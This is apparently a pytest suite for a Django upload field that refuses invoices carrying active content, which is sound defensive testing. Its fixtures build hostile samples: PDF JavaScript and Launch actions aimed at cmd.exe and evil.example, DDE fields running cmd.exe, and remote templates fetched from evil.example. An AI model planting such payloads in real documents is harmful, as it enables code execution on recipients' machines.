"""Issue 7, item 5: staff open proofs of purchase in desktop programs, so a file that runs or
loads something when it is opened is refused at the field, with a message saying why and what
to send instead: PDFs with JavaScript, a program to launch, embedded files, event actions, Flash
or XFA (pikepdf); Office files with VBA or Excel 4 macros, embedded objects, DDE links or remote
templates (oletools). Password-protected files cannot be checked and are refused too."""

from __future__ import annotations

import io
import time
import zipfile

import pikepdf
import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pikepdf import Array, Dictionary, Name, String

from aftersales.repairs import file_inspection
from aftersales.repairs.attachments import DOC, DOCX, PDF, XLS, XLSX, AttachmentField

from . import sample_files

ACTIVE = (
    "“{name}” contains macros, scripts, embedded files or links that run or load when it is "
    "opened, which we do not accept. Print or save it as a plain PDF and attach that."
)
PASSWORD = (
    "“{name}” is protected by a password, so it cannot be checked or opened. Attach it without "
    "the password."
)


class InvoiceForm(forms.Form):
    invoice = AttachmentField(required=False)


def check(name: str, content: bytes):
    form = InvoiceForm(data={}, files={"invoice": SimpleUploadedFile(name, content)})
    if form.is_valid():
        return form.cleaned_data["invoice"].file_type
    return form.errors["invoice"]


# --- PDF -------------------------------------------------------------------------------------


def javascript_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example');"))
    )


def javascript_in_the_names_tree(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print();")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))


def javascript_behind_a_link(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 20]),
        A=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link]))


def javascript_as_a_stream(pdf: pikepdf.Pdf) -> None:
    # /JS may be a (compressed) stream rather than a string.
    script = pdf.make_stream(b"app.alert(1)")
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=script)


def launch_a_program(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)


def action_on_opening_the_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://e.example")))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def flash(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]))]
    )


@pytest.mark.parametrize(
    "change",
    [
        javascript_on_open,
        javascript_in_the_names_tree,
        javascript_behind_a_link,
        javascript_as_a_stream,
        launch_a_program,
        embedded_file,
        action_on_opening_the_page,
        xfa_form,
        flash,
    ],
)
def test_a_pdf_with_active_content_is_refused(change):
    assert check("facture.pdf", sample_files.pdf(change=change)) == [
        ACTIVE.format(name="facture.pdf")
    ]


def test_active_content_hidden_in_a_compressed_object_stream_is_found():
    content = io.BytesIO()
    with pikepdf.open(io.BytesIO(sample_files.pdf(change=javascript_on_open))) as pdf:
        pdf.save(content, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in content.getvalue()  # nothing to see in the raw bytes

    assert check("facture.pdf", content.getvalue()) == [ACTIVE.format(name="facture.pdf")]


def go_to_the_first_page(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def a_link_to_the_shop(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 100, 20]),
                A=Dictionary(S=Name.URI, URI=String("https://shop.example/")),
            )
        ]
    )


@pytest.mark.parametrize("change", [None, go_to_the_first_page, a_link_to_the_shop])
def test_an_ordinary_pdf_opening_at_its_first_page_or_with_links_is_accepted(change):
    assert check("facture.pdf", sample_files.pdf(change=change)) == PDF


def save_encrypted(owner: str, user: str) -> bytes:
    content = io.BytesIO()
    with pikepdf.open(io.BytesIO(sample_files.pdf())) as pdf:
        pdf.save(content, encryption=pikepdf.Encryption(owner=owner, user=user))
    return content.getvalue()


def test_a_pdf_that_needs_a_password_is_refused():
    assert check("facture.pdf", save_encrypted("owner", "customer")) == [
        PASSWORD.format(name="facture.pdf")
    ]


def test_a_pdf_that_only_restricts_printing_opens_without_a_password_and_is_accepted():
    # An owner password alone (no user password) is common on shops' invoices.
    assert check("facture.pdf", save_encrypted("owner", "")) == PDF


def test_a_pdf_too_large_to_walk_in_a_second_is_refused_rather_than_let_through():
    def a_hundred_thousand_entries(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Filler = Array(range(100_001))

    content = sample_files.pdf(change=a_hundred_thousand_entries)
    started = time.monotonic()

    assert check("facture.pdf", content) == [
        "“facture.pdf” is too complex to be checked. Print or save it as a new PDF and attach that."
    ]
    assert time.monotonic() - started < 5


def test_a_pdf_that_cannot_be_read_is_refused_as_damaged():
    assert check("facture.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50) == [
        "“facture.pdf” could not be read as a PDF file: it is damaged or incomplete."
    ]


# --- Office ----------------------------------------------------------------------------------

VBA_PROJECT_BIN = sample_files.compound_file(sample_files.VBA_PROJECT)
WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_part(content: bytes, name: str, body: str | bytes) -> bytes:
    """The package with one part replaced (or added)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
        target.writestr(name, body)
    return out.getvalue()


def docx_with_field(instruction: str) -> bytes:
    body = (
        f"<w:document {WORD_NS}><w:body><w:p>"
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText xml:space='preserve'>{instruction}</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
        "</w:p></w:body></w:document>"
    )
    return with_part(sample_files.docx(), "word/document.xml", body)


def external(relationship: str, target: str) -> bytes:
    return sample_files.ooxml(
        "docx",
        main_part_rels=sample_files.relationships(
            ("rId9", f"{RELATIONSHIPS}/{relationship}", target, "External")
        ),
    )


OFFICE_WITH_ACTIVE_CONTENT = {
    # A format made for macros, whatever it holds.
    "docm": sample_files.ooxml("docm", extra={"word/vbaProject.bin": VBA_PROJECT_BIN}),
    # VBA hidden in a file that calls itself a plain .docx (olevba finds it).
    "docx-with-vba": sample_files.ooxml("docx", extra={"word/vbaProject.bin": VBA_PROJECT_BIN}),
    "doc-with-vba": sample_files.doc(macros=True),
    "xls-with-vba": sample_files.xls(vba=True),
    # An Excel 4 macro sheet (olevba reads the workbook's sheet list).
    "xls-with-excel-4-macros": sample_files.xls(xlm_macros=True),
    "xlsx-with-a-macro-sheet": sample_files.ooxml(
        "xlsx",
        extra={"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
        overrides={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
    ),
    # An embedded object: a package that can be a program.
    "doc-with-an-embedded-object": sample_files.doc(embedded_object=True),
    "docx-with-an-embedded-object": sample_files.ooxml(
        "docx",
        extra={
            "word/embeddings/oleObject1.bin": sample_files.compound_file(
                {"\x01Ole10Native": b"\x10\x00\x00\x00MZ\x90\x00"}
            )
        },
    ),
    # DDE: Word runs the command when the field is updated on opening.
    "docx-with-dde": docx_with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    "xlsx-with-a-dde-link": sample_files.ooxml(
        "xlsx",
        extra={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            )
        },
    ),
    # Loaded from elsewhere when the document opens (remote template injection).
    "docx-with-a-remote-template": external("attachedTemplate", "https://evil.example/t.dotm"),
    "docx-with-a-linked-object": external("oleObject", "https://evil.example/o.rtf"),
}


@pytest.mark.parametrize(
    "content", OFFICE_WITH_ACTIVE_CONTENT.values(), ids=list(OFFICE_WITH_ACTIVE_CONTENT)
)
def test_an_office_file_with_active_content_is_refused(content):
    assert check("facture.docx", content) == [ACTIVE.format(name="facture.docx")]


def test_office_files_with_links_and_ordinary_fields_are_accepted():
    assert check("facture.docx", external("hyperlink", "https://shop.example/")) == DOCX
    assert check("facture.docx", docx_with_field("PAGE \\* MERGEFORMAT")) == DOCX
    assert check("facture.doc", sample_files.doc()) == DOC
    assert check("facture.xls", sample_files.xls()) == XLS
    assert check("facture.xlsx", sample_files.xlsx()) == XLSX


def test_a_password_protected_office_document_is_refused():
    assert check("facture.docx", sample_files.encrypted_docx()) == [
        PASSWORD.format(name="facture.docx")
    ]


def test_the_message_is_in_the_customers_language():
    with translation.override("fr"):
        errors = list(check("facture.pdf", sample_files.pdf(change=javascript_on_open)))

    assert errors == [
        "« facture.pdf » contient des macros, des scripts, des fichiers incorporés ou des liens "
        "qui s'exécutent ou se chargent à son ouverture, ce que nous n'acceptons pas. "
        "Imprimez-le ou enregistrez-le en PDF simple et joignez ce PDF."
    ]


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("docx-with-vba", "vba_macros"),
        ("doc-with-vba", "vba_macros"),
        ("xls-with-vba", "vba_macros"),
        ("xls-with-excel-4-macros", "xlm_macros"),
        ("doc-with-an-embedded-object", "embedded_objects"),
        ("docx-with-an-embedded-object", "embedded_objects"),
        ("docx-with-dde", "dde_links"),
        ("xlsx-with-a-dde-link", "dde_links"),
        ("docx-with-a-remote-template", "external_relationships"),
    ],
)
def test_each_kind_of_active_content_is_found_by_the_library_made_for_it(name, found):
    content = OFFICE_WITH_ACTIVE_CONTENT[name]
    package = None
    if content.startswith(b"PK"):
        package = file_inspection.zip_unpack_bounded(
            content,
            max_entries=100,
            max_bytes=10 * 1024 * 1024,
            part_limits={},
            needles=file_inspection.OOXML_MARKUP,
        )

    facts = file_inspection.office_facts(content, package)

    assert getattr(facts, found)
    clean = file_inspection.office_facts(sample_files.doc())
    assert not getattr(clean, found)
